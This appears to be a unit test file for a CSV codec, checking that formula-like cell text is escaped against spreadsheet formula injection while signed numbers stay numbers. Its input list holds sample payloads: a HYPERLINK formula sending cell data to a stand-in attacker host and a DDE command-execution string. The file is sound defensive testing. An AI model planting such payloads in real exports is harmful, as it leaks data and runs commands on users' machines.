/** CSV formula injection (OWASP): a cell that a spreadsheet would run is written as text; a plain number stays a number. */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { csvCell, csvTable, parseCsv } from '../../src/codecs/csv.ts';

const it = suite('CSV cells');

/** Texts a spreadsheet takes for a formula (or a DDE call), as an owner might name an instrument. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '=1+1',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '-',
  '+',
  '=',
  '@',
  '-.5',
  '+.5',
  '-1.',
  '-Infinity',
  '-NaN',
  '-1,5',
  '- 1',
  '-1e',
  '-1e5e5',
  '-0x1F',
  '+１',
];

/** Plain decimal numbers as the project writes them: left alone, so they stay numbers. */
const NUMBERS = ['-0.5', '+1e-3', '-37', '0', '-0', '+12', '1.5E+21', '-1e-7', '-0.00020', '15.005', '-007'];

it('a formula-like text gets a leading single quote and is quoted', () => {
  for (const text of FORMULAS) {
    const cell = csvCell(text);
    assert.ok(cell.startsWith(`"'`), `${JSON.stringify(text)} → ${cell}`);
    // read back, it is the text with the quote before it: a spreadsheet shows it, never runs it
    assert.equal(parseCsv(cell + '\r\n'), [[`'${text}`]], JSON.stringify(text));
  }
});

it('a plain number, even with a sign, is written as it is', () => {
  for (const n of NUMBERS) assert.is(csvCell(n), n);
  assert.is(csvCell(-37), '-37', 'numbers given as numbers too');
  assert.is(csvCell(-0.5), '-0.5');
});

it('other texts are written as before: quoted only for a quote, comma or line break', () => {
  assert.is(csvCell('Price-computing scale, stall 99'), '"Price-computing scale, stall 99"');
  assert.is(csvCell('XH-JD2026-00317'), 'XH-JD2026-00317');
  assert.is(csvCell(' =1+1'), ' =1+1', 'a leading space is not a formula');
  assert.is(csvCell('a=b'), 'a=b');
  assert.is(csvCell('say "hi"'), '"say ""hi"""');
  assert.is(csvCell(null), '');
  assert.is(csvCell(undefined), '');
  assert.is(csvCell('[2022]沪徐量标证字第0014号'), '[2022]沪徐量标证字第0014号');
});

it('every line of a table goes through the same cell writer, header included', () => {
  const table = csvTable(
    ['name', 'days_to_due'],
    [
      ['=HYPERLINK("x")', -37],
      ['@cmd', '-0.5'],
    ],
  );
  assert.is(table, `name,days_to_due\r\n"'=HYPERLINK(""x"")",-37\r\n"'@cmd",-0.5\r\n`);
});

it.run();
